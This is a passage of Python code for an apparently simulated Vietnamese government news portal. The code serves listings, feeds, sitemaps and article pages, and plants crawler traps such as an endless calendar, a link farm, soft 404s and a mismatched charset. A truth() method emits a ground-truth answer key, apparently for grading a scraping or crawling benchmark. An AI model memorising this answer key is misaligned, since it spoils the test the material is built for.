        latest = Layout(
            "tin-moi",
            render.LABELS[ctx.locale]["latest"],
            HOME.friendly,
            "/",
            HOME.plid,
            "category",
            style="abstracts",
            instance_id=HOME.instance_id,
            link_form="jsession_all",
            abstract_length=200,
        )
        entries = [
            self._entry(latest, self.by_number[n], ctx, pos)
            for pos, n in enumerate(self.newest_first[:5])
        ]
        notices = CATEGORY_BY_KEY["thong-bao"]
        notice_entries = [
            self._entry(notices, self.by_number[n], ctx, pos)
            for pos, n in enumerate(self.listings["thong-bao"][:5])
        ]
        quick = "".join(
            f'<li><a href="{render.layout_href(ctx, lay.key)}">{esc(lay.name)}</a></li>'
            for lay in CATEGORIES
        )

        content = render.layout_grid(
            render.listing_portlet(ctx, latest, entries, "", None)
            + "\n"
            + render.portlet(
                notices.portlet_id.replace(notices.instance_id, "Hn0tB4oCx9Wa"),
                "Thông báo",
                '<ul class="list-group show-quick-actions-on-hover">'
                + "".join(render.entry_title_list(e) for e in notice_entries)
                + "</ul>",
                css="portlet-asset-publisher",
                hidden_title=False,
            )
            + f'\n<div class="quick-links"><ul>{quick}'
            '<li><a href="https://www.hochiminhcity.gov.vn/" target="_blank">Cổng thông tin '
            "điện tử Thành phố</a></li>"
            '<li><a href="mailto:hepza@tphcm.gov.vn">Gửi thư góp ý</a></li></ul></div>'
        )
        if "dot_slug" in self.config.quality_traps:
            content += (
                "<nav><ul>"
                + "".join(f'<li><a href="{href}">..</a></li>' for href in DOT_SLUG_HREFS)
                + "</ul></nav>"
            )
        seo = Seo(full_title("Trang chủ"), "/", "/en/")
        return render.theme(ctx, seo, content, "home")

    def _category(
        self, ctx: Ctx, lay: Layout, query: str
    ) -> tuple[int, tuple[tuple[str, str], ...], bytes]:
        params = parse_qs(query, keep_blank_values=True) if query else {}
        nums = self.listings[lay.key]
        if params.get("p_p_id", [""])[0] == lay.portlet_id:
            if params.get("p_p_lifecycle", [""])[0] == "2":
                if lay.rss and params.get("p_p_resource_id", [""])[0] == "getRSS":
                    return 200, (("Content-Type", XML),), self._atom(ctx, lay)
                return 200, (("Content-Type", HTML),), b""
            cur_raw = params.get(lay.namespace + "cur", ["1"])[0]
            cur = int(cur_raw) if cur_raw.isdigit() else 1
        else:
            cur = 1
        delta = self.config.delta
        total = len(nums)
        pages = max(1, -(-total // delta))
        endless = self.config.endless_pager if lay.key == ENDLESS_LISTING else ""
        real_pages = pages
        if endless:
            pages, total = ENDLESS_PAGES, ENDLESS_PAGES * delta
        # SearchContainer moves an out-of-range cur back to the last page
        cur = min(max(cur, 1), pages)
        start = (cur - 1) * delta
        if endless == "repeat" and cur > real_pages:
            start = (real_pages - 1) * delta
        entries = [
            self._entry(lay, self.by_number[n], ctx, start + i)
            for i, n in enumerate(nums[start : start + delta])
        ]
        pager = ""
        if lay.pagination and total > delta:
            pager = render.paginator_html(
                ctx,
                lay,
                cur,
                pages,
                total,
                delta,
                lambda i: ctx.base + ctx.prefix + lay.linked + self.page_query(lay, i),
            )
        feed = ctx.base + ctx.prefix + lay.linked + self.feed_query(lay) if lay.rss else None
        content = render.layout_grid(render.listing_portlet(ctx, lay, entries, pager, feed))
        seo = Seo(full_title(lay.name), lay.friendly, "/en" + lay.friendly, feed=feed)
        return self._html(render.theme(ctx, seo, content, "category"))

    def _atom(self, ctx: Ctx, lay: Layout) -> bytes:
        nums = self.listings[lay.key][:20]
        layout_url = ctx.base + ctx.prefix + lay.friendly
        self_url = f"{layout_url}/-/asset_publisher/{lay.instance_id}/rss"
        updated = max((self.by_number[n].modified for n in nums), default=LAYOUT_MODIFIED)
        out = [
            '<?xml version="1.0" encoding="UTF-8"?>',
            '<feed xmlns="http://www.w3.org/2005/Atom" xmlns:dc="http://purl.org/dc/elements/1.1/">',
            f"  <title>{esc(lay.name)}</title>",
            f'  <link rel="alternate" href="{esc(layout_url)}" />',
            f'  <link rel="self" href="{esc(self_url)}" />',
            f"  <subtitle>{esc(lay.name)}</subtitle>",
        ]
        for n in nums:
            art = self.by_number[n]
            link = f"{ctx.base}{ctx.prefix}{art.canonical_path}"
            author = f"    <author><name>{esc(art.author)}</name></author>\n" if art.author else ""
            out.append(
                "  <entry>\n"
                f"    <title>{esc(art.title)}</title>\n"
                f'    <link rel="alternate" href="{esc(link)}" />\n'
                f"{author}"
                f"    <id>{esc(link)}</id>\n"
                f"    <updated>{atom_date(art.modified)}</updated>\n"
                f"    <published>{atom_date(art.published)}</published>\n"
                f'    <summary type="html">{esc(art.description)}</summary>\n'
                f"    <dc:date>{atom_date(art.published)}</dc:date>\n"
                "  </entry>"
            )
        out += [
            f"  <id>{esc(self_url)}</id>",
            f"  <updated>{atom_date(updated)}</updated>",
            f"  <dc:date>{atom_date(updated)}</dc:date>",
            "</feed>",
            "",
        ]
        return "\n".join(out).encode()

    def _asset_publisher_path(
        self, ctx: Ctx, rest: str, path_and_query: str
    ) -> tuple[int, tuple[tuple[str, str], ...], bytes]:
        layout_part, _, tail = rest.partition("/-/asset_publisher/")
        parts = tail.split("/")
        lay = next((c for c in CATEGORIES if c.friendly == layout_part), None)
        if lay is None or not parts or parts[0] != lay.instance_id:
            return self._not_found(ctx.base, path_and_query, ctx)
        if parts[1:] == ["rss"] and lay.rss:
            return 200, (("Content-Type", XML),), self._atom(ctx, lay)
        if len(parts) == 3 and parts[1] == "content":
            art = self.by_slug.get(unquote(parts[2]))
            if art is not None and art.category in lay.members:
                query = path_and_query.partition("?")[2]
                redirect = parse_qs(query).get("redirect", [ctx.prefix + lay.linked])[0]
                return self._html(self._content_view(ctx, lay, art, redirect))
        return self._not_found(ctx.base, path_and_query, ctx)

    def _article_seo(self, ctx: Ctx, art: Article, title: str) -> Seo:
        images = self._images(art)
        return Seo(
            title=title,
            vi_path=art.canonical_path,
            en_path="/en" + art.canonical_path,
            description=art.description,
            image=ctx.base + images[0].path if images else None,
            og_type="article",
        )

    def _template(self, art: Article) -> str:
        body = "\n".join(b.html for b in self.blocks(art))
        files = [(a.path, a.title) for a in self._attachments(art)]
        return render.article_template(
            art.title, liferay_shorten(art.description, 150), body, files
        )

    def _date_markup(self, ctx: Ctx, art: Article) -> str:
        if "date" in self.config.broken:
            # the redesign renders the date client-side; only epoch millis remain in a script
            return (
                '<div class="news-date" id="news-date"></div><script>'
                f"(function(){{var ts={epoch_ms(art.published)};"
                "document.getElementById('news-date').textContent="
                f"new Date(ts).toLocaleString('{ctx.locale}');}})();</script>"
            )
        return render.paragraph_fragment(
            esc(short_short(art.published, ctx.locale, art.date_style)), render.FRAG_DATE
        )

    def _related_links(self, ctx: Ctx, art: Article) -> list[tuple[str, str]]:
        page_key = f"{ctx.prefix}{art.canonical_path}"
        return [
            (self._slug_href(target, form, ctx, page_key), target.title)
            for target, form in self.related_of(art)
        ]

    def _display_page(
        self, ctx: Ctx, slug: str, path_and_query: str
    ) -> tuple[int, tuple[tuple[str, str], ...], bytes]:
        if slug == MOVED_SLUG and self.config.redirect_port:
            host = urlsplit(ctx.base).hostname
            target = f"http://{host}:{self.config.redirect_port}{self.by_number[1].canonical_path}"
            return 302, (("Content-Type", HTML), ("Location", target)), b""
        art = self.by_slug.get(slug)
        if art is None:
            special = next((n for n in NON_ARTICLES if n.slug == slug), None)
            if special is None or special.kind == "deleted":
                return self._not_found(ctx.base, path_and_query, ctx)
            if special.kind == "soft404":
                return self._not_found(ctx.base, path_and_query, ctx, status=200)
            seo = Seo(full_title(DISPLAY.name), special.path, "/en" + special.path)
            shell = render.layout_grid(
                f'<div class="lfr-layout-structure-item-container">'
                f'<div id="fragment-{render.FRAG_HEADING[:8]}"></div>'
                f'<div id="fragment-{render.FRAG_BODY[:8]}"></div></div>'
            )
            return self._html(render.theme(ctx, seo, shell, "display-page"))
        cat = CATEGORY_BY_KEY[art.category]
        if art.journal_wrapper:
            main = render.fragment(
                "widget",
                render.FRAG_BODY,
                render.journal_content(
                    art.article_id, art.title, self._template(art), "Jc9dW2pL0sXe"
                ),
            )
        else:
            main = render.paragraph_fragment(self._template(art), render.FRAG_BODY)
        content = render.layout_grid(
            "\n".join(
                (
                    render.heading_fragment(art.title),
                    self._date_markup(ctx, art),
                    main,
                    render.heading_fragment(
                        render.RELATED_HEADING, render.FRAG_RELATED_HEADING, "h2"
                    ),
                    render.related_block(self._related_links(ctx, art)),
                    render.taxonomy(
                        ctx, CATEGORY_NAMES[art.category], ctx.prefix + cat.linked, art.tags
                    ),
                )
            )
        )
        seo = self._article_seo(ctx, art, full_title(art.title))
        page = render.theme(ctx, seo, content, "display-page")
        if quality_trap_of(self.config, art.number) == "charset":
            # a proxy or a misconfigured theme: the bytes stay UTF-8, the header says Latin-1
            return 200, (("Content-Type", "text/html;charset=ISO-8859-1"),), page.encode()
        return self._html(page)

    def _content_view(self, ctx: Ctx, lay: Layout, art: Article, redirect: str) -> str:
        lab = ctx.labels
        date = (
            ""
            if "date" in self.config.broken
            else '<div class="asset-user-info text-secondary"><span class="date-info">'
            f"{esc(lay.date_label_vi if ctx.locale == 'vi-VN' else 'Published')} "
            f"{esc(short_date(art.published, ctx.locale))}</span></div>"
        )
        full = (
            f'<p class="h2"><a class="header-back-to lfr-portal-tooltip" href="{esc(redirect)}" '
            f'title="{lab["back"]}">{render.ICON_ANGLE_LEFT}</a>'
            f'<span class="header-title">{esc(art.title)}</span></p>\n'
            '<div class="asset-full-content clearfix mb-5 default-asset-publisher '
            'show-asset-title" '
            f'data-fragments-editor-item-id="{render.JOURNAL_CLASS_NAME_ID}-{art.article_id + 1}" '
            'data-fragments-editor-item-type="fragments-editor-mapped-item">\n'
            '<div class="align-items-center d-flex mb-2"><p class="component-title h4">'
            f'<span class="asset-title d-inline">{esc(art.title)}</span></p></div>\n'
            f'<span class="asset-anchor lfr-asset-anchor" id="{art.asset_entry_id}"></span>\n'
            f"{date}\n"
            '<div class="asset-content mb-3">'
            f'<div class="journal-content-article" data-analytics-asset-id="{art.article_id}" '
            f'data-analytics-asset-title="{esc(art.title)}" '
            f'data-analytics-asset-type="web-content">\n{self._template(art)}\n</div></div>\n'
            + render.taxonomy(ctx, CATEGORY_NAMES[art.category], ctx.prefix + lay.linked, art.tags)
            + "\n</div>"
        )
        content = render.layout_grid(
            render.portlet(
                lay.portlet_id,
                lay.name,
                full,
                css="portlet-asset-publisher",
                hidden_title=lay.style == "abstracts70",
            )
        )
        seo = self._article_seo(ctx, art, full_title(art.title, lay.name))
        own = ctx.abs(ctx.prefix + art.canonical_path)
        seo = Seo(
            seo.title,
            lay.friendly,
            "/en" + lay.friendly,
            seo.description,
            seo.image,
            "article",
            canonical=own,
        )
        return render.theme(ctx, seo, content, "category")

    def _simple_page(self, ctx: Ctx, title: str, path: str, inner: str) -> str:
        seo = Seo(full_title(title), path, "/en" + path)
        return render.theme(ctx, seo, render.layout_grid(inner))

    def _static_page(self, ctx: Ctx, lay: Layout) -> str:
        if lay.key == "so-do-website":
            links = "".join(
                f'<li><a href="{render.layout_href(ctx, k)}">{esc(render.LAYOUT_BY_KEY[k].name)}'
                "</a></li>"
                for k in render.LAYOUT_BY_KEY
            )
            inner = f'<h2>Sơ đồ website</h2><ul class="site-map">{links}</ul>'
        elif lay.key == "lien-he":
            inner = render.paragraph_fragment(
                "<h2>Liên hệ</h2><p>Ban Quản lý các Khu chế xuất và công nghiệp TP.HCM</p>"
                "<p>Địa chỉ: 35 Nguyễn Bỉnh Khiêm, Phường Đa Kao, Quận 1, TP.HCM</p>"
                '<p>Điện thoại: <a href="tel:842838290414">84-28.38290.414</a> - '
                '<a href="tel:842838290405">38290.405</a></p>'
                '<p>Email: <a href="mailto:hepza@tphcm.gov.vn">hepza@tphcm.gov.vn</a></p>'
                '<form action="/lien-he?p_p_id=com_liferay_dynamic_data_mapping_form_web_portlet_'
                'DDMFormPortlet&amp;p_p_lifecycle=1&amp;p_p_state=normal" method="post">'
                '<input name="ho-ten" type="text" /><button type="submit">Gửi</button></form>',
                render.FRAG_BODY,
            )
        else:
            inner = render.journal_content(
                1000 + lay.plid, lay.name, self._static_text(lay), "St" + f"{lay.plid:010d}"
            )
        return self._simple_page(ctx, lay.name, lay.friendly, inner)

    def _static_text(self, lay: Layout) -> str:
        if lay.key == "van-ban-phap-quy":
            rows = "".join(
                f'<tr><td>{i}</td><td><a href="{esc(p)}">{esc(name)}</a></td></tr>'
                for i, (p, name) in enumerate(self._legal_documents(), start=1)
            )
            return (
                "<h2>Văn bản pháp quy</h2><p>Cập nhật ngày 01/06/2022</p>"
                f'<table class="table"><tbody>{rows}</tbody></table>'
            )
        if lay.key == "tong-quan-ve-tphcm":
            return (
                "<h2>Tổng quan về TPHCM</h2><p>Thành phố Hồ Chí Minh là trung tâm kinh tế, văn "
                "hóa, giáo dục quan trọng của cả nước, với hệ thống các khu chế xuất, khu công "
                "nghiệp phát triển.</p><p>Thành phố có vị trí thuận lợi về giao thông đường bộ, "
                "đường thủy và đường hàng không.</p>"
            )
        return (
            "<h2>Giới thiệu chung</h2><p>Ban Quản lý các Khu chế xuất và công nghiệp TP.HCM "
            "(HEPZA) được thành lập năm 1992, là cơ quan trực thuộc Ủy ban nhân dân Thành phố.</p>"
            "<p>Ngay sau khi quy chế khu chế xuất được ban hành, Ban Quản lý Khu chế xuất Tân "
            "Thuận được thành lập theo Quyết định số 62/CT ngày 26/02/1992.</p>"
            "<p>Cập nhật: 17:48 18/01/2023</p>"
        )

    # ------------------------------------------------------------------------------- traps

    def _trap_menu(self) -> tuple[tuple[str, str], ...]:
        menu: list[tuple[str, str]] = []
        if self.config.calendar_links:
            menu.append(("Lịch công tác", CALENDAR_PATH))
        if self.config.link_farm:
            menu.append(("Danh bạ liên kết", LINK_FARM_PATH))
        return tuple(menu)

    def _trap_page(
        self, ctx: Ctx, rest: str, query: str
    ) -> tuple[int, tuple[tuple[str, str], ...], bytes] | None:
        if self.config.calendar_links and rest == CALENDAR_PATH:
            raw = parse_qs(query).get("ngay", [""])[0] if query else ""
            day = int(raw) if raw.isdigit() else CALENDAR_FIRST_DAY
            inner = (
                f'<nav class="calendar-pager"><a href="{CALENDAR_PATH}?ngay={day - 1}">'
                f'Ngày trước</a> <a href="{CALENDAR_PATH}?ngay={day + 1}">Ngày sau</a></nav>'
                f"<p>Lịch công tác ngày {day}: không có sự kiện.</p>"
            )
            return self._html(self._simple_page(ctx, "Lịch công tác", CALENDAR_PATH, inner))
        if self.config.link_farm and rest == LINK_FARM_PATH:
            links = "".join(
                f'<li><a href="{LINK_FARM_PATH}/muc-{i}">Mục {i}</a></li>'
                for i in range(1, self.config.link_farm + 1)
            )
            inner = f'<nav class="link-directory"><ul>{links}</ul></nav>'
            return self._html(self._simple_page(ctx, "Danh bạ liên kết", LINK_FARM_PATH, inner))
        if self.config.link_farm and rest.startswith(LINK_FARM_PATH + "/muc-"):
            number = rest.removeprefix(LINK_FARM_PATH + "/muc-")
            if number.isdigit() and 1 <= int(number) <= self.config.link_farm:
                return self._html(
                    f'<!DOCTYPE html><html lang="vi-VN"><head><title>Mục {number}</title>'
                    f"</head><body><p>Mục {number} của danh bạ liên kết.</p></body></html>"
                )
        return None

    # ------------------------------------------------------------------------------- sitemaps

    def _sitemap_layouts(self) -> list[Layout]:
        return [HOME, *CATEGORIES, *PAGES, DISPLAY]

    def _sitemap(self, base: str, query: str) -> bytes:
        params = parse_qs(query) if query else {}
        uuid = params.get("layoutUuid", [""])[0]
        if not uuid:
            entries = "".join(
                "  <sitemap><loc>"
                + esc(
                    f"{base}/sitemap.xml?p_l_id={lay.plid}&layoutUuid={lay.uuid}"
                    "&groupId=20122&privateLayout=false"
                )
                + "</loc></sitemap>\n"
                for lay in self._sitemap_layouts()
            )
            return (
                '<?xml version="1.0" encoding="UTF-8"?>\n<sitemapindex xmlns="http://www.'
                'sitemaps.org/schemas/sitemap/0.9" xmlns:xhtml="http://www.w3.org/1999/xhtml">\n'
                f"{entries}</sitemapindex>"
            ).encode()
        lay = next((x for x in self._sitemap_layouts() if x.uuid == uuid), None)
        if lay is None:
            return b""
        urls: list[str] = []
        if lay is DISPLAY:
            shell = NON_ARTICLE_BY_KIND["empty_shell"]
            items = [
                (self.by_number[n].canonical_path, self.by_number[n].modified)
                for n in self.newest_first
            ]
            items.append((shell.path, LAYOUT_MODIFIED))
            if self.config.redirect_port:
                items.append(("/w/" + MOVED_SLUG, LAYOUT_MODIFIED))
            for path, modified in items:
                urls += _url_pair(base, path, "/en" + path, modified, "daily", "0.5")
        else:
            vi = "/" if lay is HOME else lay.friendly
            en = "/en/" if lay is HOME else "/en" + lay.friendly
            urls += _url_pair(base, vi, en, LAYOUT_MODIFIED, "weekly", "0.8")
        return (
            '<?xml version="1.0" encoding="UTF-8"?>\n<urlset xmlns="http://www.sitemaps.org/'
            'schemas/sitemap/0.9" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
            'xsi:schemaLocation="http://www.w3.org/1999/xhtml http://www.w3.org/2002/08/xhtml/'
            'xhtml1-strict.xsd" xmlns:xhtml="http://www.w3.org/1999/xhtml">\n'
            + "".join(urls)
            + "</urlset>"
        ).encode()

    # ------------------------------------------------------------------------------- truth

    def truth(self) -> dict[str, Any]:
        paths: dict[int, set[str]] = {a.number: set() for a in self.articles}
        for art in self.articles:
            paths[art.number].update((art.canonical_path, "/en" + art.canonical_path))
        for lay in CATEGORIES:
            for pos, n in enumerate(self.listings[lay.key]):
                art = self.by_number[n]
                for prefix in ("", "/en"):
                    if lay.link_form == "content":
                        paths[n].add(self.content_path(lay, art, prefix, pos))
                    else:
                        form = "w_lower" if lay.link_form == "w_lower" else "w"
                        paths[n].add(self._truth_path(art, form, prefix))
        for art in self.articles:
            for target, form in self.related_of(art):
                if isinstance(target, Article):
                    for prefix in ("", "/en"):
                        paths[target.number].add(self._truth_path(target, form, prefix))
        articles = []
        for art in self.articles:
            blocks = self.blocks(art)
            if art.author:
                blocks = blocks[:-1]
            event = self.event_date_of(art)
            articles.append(
                {
                    "number": art.number,
                    "slug": art.slug_path,
                    "paths": sorted(paths[art.number]),
                    "canonical_path": art.canonical_path,
                    "title": fold_text(art.title),
                    "summary": fold_text(art.description),
                    "body_paragraphs": [b.text for b in blocks if b.text],
                    "author": art.author,
                    "published_at": iso_offset(art.published),
                    "modified_at": iso_offset(art.modified),
                    "event_date": event.isoformat() if event else None,
                    "category": CATEGORY_NAMES[art.category],
                    "tags": list(art.tags),
                    "images": [{"path": i.path, "caption": i.caption} for i in self._images(art)],
                    "attachments": [
                        {"path": a.path, "title": a.title} for a in self._attachments(art)
                    ],
                    "language": "vi-VN",
                    "variant": art.variant,
                    "kind": art.kind,
                    "edited": art.edited,
                    "date_strings": {
                        "vi-VN": short_short(art.published, "vi-VN", art.date_style),
                        "en-US": short_short(art.published, "en-US", art.date_style),
                    },
                }
            )
        non_articles = ["/", "/web/guest/trang-chu", "/en/", "/index"]
        for lay in (*CATEGORIES, *PAGES):
            non_articles += [lay.linked, "/en" + lay.linked]
            if lay.linked != lay.friendly:
                non_articles.append(lay.friendly)
        non_articles += [n.path for n in NON_ARTICLES]
        categories = [
            {
                "key": lay.key,
                "name": lay.name,
                "path": lay.linked,
                "style": lay.style,
                "pagination": lay.pagination,
                "portlet_id": lay.portlet_id,
                "pages": max(1, -(-len(self.listings[lay.key]) // self.config.delta)),
                "article_numbers": self.listings[lay.key],
            }
            for lay in CATEGORIES
        ]
        return {
            "base_url_placeholder": "{base_url}",
            "config": {
                "articles": self.config.articles,
                "seed": self.config.seed,
                "extra_articles": self.config.extra_articles,
                "edited": list(self.config.edited),
                "broken": list(self.config.broken),
                "faults": self.config.faults,
                "delta": self.config.delta,
                "migrated_articles": self.config.migrated_articles,
            },
            "migration_time": iso_offset(MIGRATION_TIME),
            "articles": articles,
            "non_article_paths": non_articles,
            "non_articles": [{"path": n.path, "kind": n.kind} for n in NON_ARTICLES],
            "categories": categories,
        }


def _url_pair(
    base: str, vi_path: str, en: str, modified: datetime, changefreq: str, priority: str
) -> list[str]:
    # one <url> per locale, each repeating the same alternates (reference §4)
    links = (
        f'    <xhtml:link href="{esc(base + en)}" hreflang="en-US" rel="alternate"/>\n'
        f'    <xhtml:link href="{esc(base + vi_path)}" hreflang="vi-VN" rel="alternate"/>\n'
        f'    <xhtml:link rel="alternate" hreflang="x-default" href="{esc(base + vi_path)}"/>\n'
    )
    return [
        f"  <url>\n    <loc>{esc(base + loc)}</loc>\n"
        f"    <lastmod>{sitemap_lastmod(modified)}</lastmod>\n"
        f"    <changefreq>{changefreq}</changefreq>\n    <priority>{priority}</priority>\n"
        f"{links}  </url>\n"
        for loc in (en, vi_path)
    ]


# 1x1 images so that document and logo URLs answer with real image bytes
GIF = bytes.fromhex(
    "47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b"
)
JPEG = bytes.fromhex(
    "ffd8ffe000104a46494600010100000100010000ffdb004300080606070605080707070909080a0c140d0c0b0b0c"
    "1912130f141d1a1f1e1d1a1c1c20242e2720222c231c1c2837292c30313434341f27393d38323c2e333432ffc000"
    "0b080001000101011100ffc4001f0000010501010101010100000000000000000102030405060708090a0bffc400"
    "b5100002010303020403050504040000017d01020300041105122131410613516107227114328191a1082342b1c1"
    "1552d1f02433627282090a161718191a25262728292a3435363738393a434445464748494a535455565758595a63"
    "6465666768696a737475767778797a838485868788898a92939495969798999aa2a3a4a5a6a7a8a9aab2b3b4b5b6"
    "b7b8b9bac2c3c4c5c6c7c8c9cad2d3d4d5d6d7d8d9dae1e2e3e4e5e6e7e8e9eaf1f2f3f4f5f6f7f8f9faffda0008"
    "010100003f00fbd3ffd9"
)
